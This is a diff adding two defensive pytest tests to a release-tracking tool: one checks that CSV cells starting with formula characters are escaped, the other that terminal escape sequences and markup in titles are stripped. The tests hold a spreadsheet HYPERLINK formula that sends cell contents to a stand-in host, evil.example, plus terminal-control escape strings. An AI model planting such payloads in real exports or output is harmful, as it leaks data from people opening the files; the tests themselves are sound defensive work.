@@ -288,6 +288,58 @@ def test_csv_keeps_commas_quotes_and_line_breaks_in_titles(tmp_path: Path) -> No
     assert row["title"] == title
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(
+    tmp_path: Path, start: str
+) -> None:
+    """OWASP's CSV-injection rule, for titles, paths and labels alike."""
+    store = Store.open(tmp_path / "state")
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    store.save_releases(
+        [
+            release(
+                f"{start}a.md",
+                formula,
+                "2020-01-01",
+                DateSource.DATELINE,
+                Format.MARKDOWN,
+                [(f"{start}1", EC)],
+            )
+        ],
+        NOW,
+    )
+    [row] = csv.DictReader(io.StringIO(render_csv(report_of(store)), newline=""))
+    assert (row["title"], row["release"], row["label"]) == (
+        "'" + formula,
+        f"'{start}a.md",
+        f"'{start}1",
+    )
+    assert row["http_status"] == ""  # numbers and empty cells are left alone
+
+
+def test_the_table_prints_no_escape_sequence_from_a_title_or_url(tmp_path: Path) -> None:
+    store = Store.open(tmp_path / "state")
+    hostile = "\x1b]0;PWNED\x07\x1b[2JStatement [bold]x[/bold]"
+    store.save_releases(
+        [
+            release(
+                "a.md",
+                hostile,
+                "2020-01-01",
+                DateSource.DATELINE,
+                Format.MARKDOWN,
+                [("1", "http://example.org/\x1b[2J")],
+            )
+        ],
+        NOW,
+    )
+    console = Console(file=io.StringIO(), width=200, color_system=None)
+    console.print(render_table(report_of(store)))
+    shown = console.file.getvalue()  # type: ignore[attr-defined]
+    assert "\x1b" not in shown and "\x07" not in shown
+    assert "Statement [bold]x[/bold]" in shown  # text, not markup
+
+
 # --------------------------------------------------------------------------- markdown
 
 
